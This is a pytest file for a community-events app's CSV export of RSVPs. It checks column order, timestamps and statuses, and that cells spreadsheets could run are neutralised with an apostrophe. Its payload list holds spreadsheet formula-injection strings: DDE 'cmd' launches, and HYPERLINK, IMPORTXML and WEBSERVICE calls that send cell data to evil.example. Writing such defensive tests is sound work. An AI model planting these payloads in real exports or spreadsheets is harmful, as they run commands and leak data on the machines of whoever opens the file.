"""The exported list: its columns, its times, and cells that spreadsheets must not run."""

import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine
from flask import Flask

from community.core.text import clean_line
from community.events.models import Event
from community.organizing import export
from community.organizing.export import csv_lines, recovered, without_formula
from community.organizing.export_rows import COLUMNS
from community.organizing.segments import Segment
from community.rsvp.party import Guest
from community.rsvp.respond import say_no, say_yes
from tests.factories.events import an_event
from tests.factories.people import a_member

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=@SUM(1)",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 30 1234",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "@=1",
    "\t=1+1",
    "\ttext",
    "\r=1+1",
    "\rtext",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\x00=1+1",
    "\x0b-1",
    "\u00a0=1+1",
    "\u3000@x",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    " ＝1+1",
    "﹦1+1",
    "'=1+1",
    "'plain",
]
HARMLESS = ["", "Ann", "3 = 4", "a@b.example", "O'Neil", "½", "1-2", "a\nb", "a;b", "\u00e9=1"]


def read(event: Event, *statuses: str) -> list[dict[str, str]]:
    text = b"".join(csv_lines(event, Segment(statuses=statuses))).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_cell_that_could_be_run_begins_with_an_apostrophe_and_can_be_recovered(
    text: str,
) -> None:
    cell = without_formula(text)
    assert cell.startswith("'")
    assert recovered(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_stays_as_it_is(text: str) -> None:
    assert without_formula(text) == text


def test_no_cell_of_an_export_can_be_run_whoever_wrote_it(app: Flask) -> None:
    event = an_event(guests_allowed=1)
    for number, text in enumerate(PAYLOADS):
        name = clean_line(text) or "-"
        facts = {"organization": name[:120], "job_title": name[:120]}
        person = a_member(name[:120], f"p{number}@example.com", **facts)
        guest = Guest(f"={name[:100]}", name)
        say_yes(person.id, event.id, guests=[guest], dietary=text, note=text)
    rows = read(event)
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert cell == without_formula(recovered(cell)), column
        assert all(guest.startswith("'=") for guest in row["guests"].split("; ="))


def test_the_columns_are_those_of_the_interface_in_their_order(app: Flask) -> None:
    header = b"".join(csv_lines(an_event()))
    names = (
        b"name,email,organization,job_title,status,party_size,guests,dietary,note,answered_at,"
        b"checked_in_at,source"
    )
    assert header == b"\xef\xbb\xbf" + names + b"\r\n"


def test_a_line_holds_what_was_answered(app: Flask) -> None:
    event = an_event(guests_allowed=2, timezone="Europe/Berlin")
    person = a_member("Zoë", "zoe@example.com", organization='A "B", C', job_title="CDO")
    guests = [Guest("Bo", "no nuts"), Guest("Cy")]
    with time_machine.travel(datetime(2026, 7, 1, 9, 30, 15, tzinfo=UTC), tick=False):
        event = an_event(guests_allowed=2, timezone="Europe/Berlin")
        say_yes(person.id, event.id, guests=guests, dietary="vegan", note="one\ntwo")
    (row,) = read(event)
    assert row == {
        "name": "Zoë",
        "email": "zoe@example.com",
        "organization": 'A "B", C',
        "job_title": "CDO",
        "status": "going",
        "party_size": "3",
        "guests": "Bo; Cy",
        "dietary": "vegan; Bo: no nuts",
        "note": "one\ntwo",
        "answered_at": "2026-07-01T11:30:15+02:00",
        "checked_in_at": "",
        "source": "web",
    }


def test_those_who_left_or_declined_have_a_line_too(app: Flask) -> None:
    event = an_event()
    left, declined = a_member("Left"), a_member("Declined")
    say_yes(left.id, event.id)
    say_no(left.id, event.id)
    say_no(declined.id, event.id)
    assert {row["name"]: row["status"] for row in read(event)} == {
        "Left": "withdrawn",
        "Declined": "declined",
    }
    assert [row["name"] for row in read(event, "declined")] == ["Declined"]


def test_a_long_list_comes_in_pieces(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "_CHUNK", 100)
    event = an_event()
    for _ in range(5):
        say_yes(a_member().id, event.id)
    pieces = list(csv_lines(event))
    assert len(pieces) > 3
    assert len(b"".join(pieces).splitlines()) == 6


def test_the_columns_of_code_and_header_agree() -> None:
    assert len(COLUMNS) == len(set(COLUMNS)) == 12
